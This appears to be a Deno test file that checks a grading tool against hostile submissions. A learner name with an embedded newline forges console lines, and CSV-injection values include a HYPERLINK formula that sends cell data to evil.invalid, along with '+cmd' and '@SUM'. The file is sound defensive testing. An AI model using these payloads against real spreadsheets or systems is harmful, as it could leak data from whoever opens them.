/**
 * `deno task grade` output from hostile submissions (issue #27, finding 5): a learner name with
 * a newline must not forge result lines on the console, and no field may reach the CSV as a
 * spreadsheet formula.
 *
 * @module
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { gradeMain } from "../../notebook/grader/grade_main.ts";
import { gradebookCsv } from "../../notebook/grader/gradebook.ts";
import { EXERCISE_LESSON } from "../../web/server/test_support.ts";

const FORGED_NAME = "eve\nmallory  tour-quadratic-grad  graded  2/2";

Deno.test("grade prints learner names escaped, one line per answer", async () => {
  const dir = await Deno.makeTempDir({ prefix: "gradbook-grade-output-" });
  try {
    const lessons = join(dir, "lessons");
    await Deno.mkdir(lessons);
    await Deno.writeTextFile(join(lessons, "01-doubling.md"), EXERCISE_LESSON);
    await Deno.writeTextFile(
      join(dir, "eve.json"),
      JSON.stringify({
        format: "gradbook-progress",
        version: 1,
        exportedAt: "2026-12-05T00:00:00.000Z",
        learner: FORGED_NAME,
        lessons: {
          "01-doubling": {
            sources: { "double-it": "function double(xs: number[]) { return xs; }" },
            cellsDone: [],
            exercises: {},
          },
        },
      }),
    );
    const lines: string[] = [];
    const code = await gradeMain(
      [join(dir, "eve.json"), "--lessons", lessons, "--out", join(dir, "out")],
      (line) => lines.push(line),
      (line) => lines.push(line),
    );
    assert.equal(code, 0);
    assert.ok(lines.some((line) => line.includes("double-it")), lines.join("\n"));
    for (const line of lines) {
      assert.ok(!line.includes("\n"), `a printed line holds a newline: ${JSON.stringify(line)}`);
      assert.ok(!/^mallory/.test(line), `a forged line: ${JSON.stringify(line)}`);
    }
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("the gradebook CSV neutralises formulas in every text field", () => {
  const csv = gradebookCsv([{
    learner: '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    lesson: "+cmd",
    exercise: "-2+3",
    status: "graded",
    points: 1,
    maxPoints: 2,
    checks: [{ name: "@SUM(A1:A9)", passed: false, points: 1, earned: 0, message: "" }],
    message: "",
  }] as never);
  const cells = csv.trim().split("\n")[1]!;
  for (const formula of ["=HYPERLINK", ",+cmd", ",-2+3", "@SUM"]) {
    const at = cells.indexOf(formula.replace(/^,/, ""));
    assert.ok(at >= 0, formula);
    const before = cells.slice(0, at);
    assert.ok(
      before.endsWith("'") || before.endsWith("\"'"),
      `${formula} is not neutralised: ${cells}`,
    );
  }
  // The sheet quote is the only change: the name is still readable.
  assert.match(cells, /^"'=HYPERLINK\(""http:\/\/evil\.invalid/);
});
